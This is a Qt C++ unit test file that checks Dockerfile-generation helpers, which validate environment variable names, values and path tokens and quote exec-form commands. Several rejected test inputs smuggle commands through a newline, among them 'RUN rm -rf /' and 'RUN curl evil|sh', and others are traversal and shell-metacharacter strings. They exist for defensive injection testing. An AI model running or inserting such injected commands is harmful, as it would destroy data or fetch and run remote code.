#include <strategies/dockerfiletext.h>

#include <QTest>

using namespace ttalkak::strategies;
using namespace Qt::StringLiterals;

class TestDockerfileText : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void envNames_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<bool>("valid");
        QTest::newRow("plain") << u"API_URL"_s << true;
        QTest::newRow("underscore first") << u"_X"_s << true;
        QTest::newRow("lower") << u"vite_x1"_s << true;
        QTest::newRow("digit first") << u"1X"_s << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("space") << u"A B"_s << false;
        QTest::newRow("equals") << u"A=B"_s << false;
        QTest::newRow("newline") << u"A\nRUN rm -rf /"_s << false;
        QTest::newRow("dash") << u"A-B"_s << false;
    }
    void envNames()
    {
        QFETCH(QString, name);
        QFETCH(bool, valid);
        QCOMPARE(bool(validateEnvName(name)), valid);
    }

    void envValues_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<bool>("valid");
        QTest::newRow("plain") << u"https://api.example.com"_s << true;
        QTest::newRow("quotes") << u"a \"quoted\" 'value'"_s << true;
        QTest::newRow("newline") << u"x\nRUN curl evil|sh"_s << false;
        QTest::newRow("cr") << u"x\rY"_s << false;
        QTest::newRow("nul") << QString(u"x"_s + QChar(0)) << false;
    }
    void envValues()
    {
        QFETCH(QString, value);
        QFETCH(bool, valid);
        QCOMPARE(bool(validateEnvValue(u"V"_s, value)), valid);
    }

    void tokens_data()
    {
        QTest::addColumn<QString>("token");
        QTest::addColumn<bool>("valid");
        QTest::newRow("version") << u"20.11.1"_s << true;
        QTest::newRow("path") << u"apps/web/dist"_s << true;
        QTest::newRow("image") << u"node:20-bookworm-slim"_s << true;
        QTest::newRow("traversal") << u"../etc"_s << false;
        QTest::newRow("space") << u"dist && rm"_s << false;
        QTest::newRow("quote") << u"dist\""_s << false;
        QTest::newRow("newline") << u"dist\nRUN x"_s << false;
        QTest::newRow("dollar") << u"$HOME"_s << false;
    }
    void tokens()
    {
        QFETCH(QString, token);
        QFETCH(bool, valid);
        QCOMPARE(bool(validateToken(u"path"_s, token)), valid);
    }

    void quoting()
    {
        QCOMPARE(quoted(u"a\"b\\c$d"_s), u"\"a\\\"b\\\\c\\$d\""_s);
        QCOMPARE(execForm({u"npm"_s, u"run"_s, u"build"_s}), u"[\"npm\",\"run\",\"build\"]"_s);
        QCOMPARE(execForm({u"sh"_s, u"-c"_s, u"echo \"x\"\n"_s}), u"[\"sh\",\"-c\",\"echo \\\"x\\\"\\n\"]"_s);
    }
};

QTEST_GUILESS_MAIN(TestDockerfileText)
#include "tst_dockerfiletext.moc"
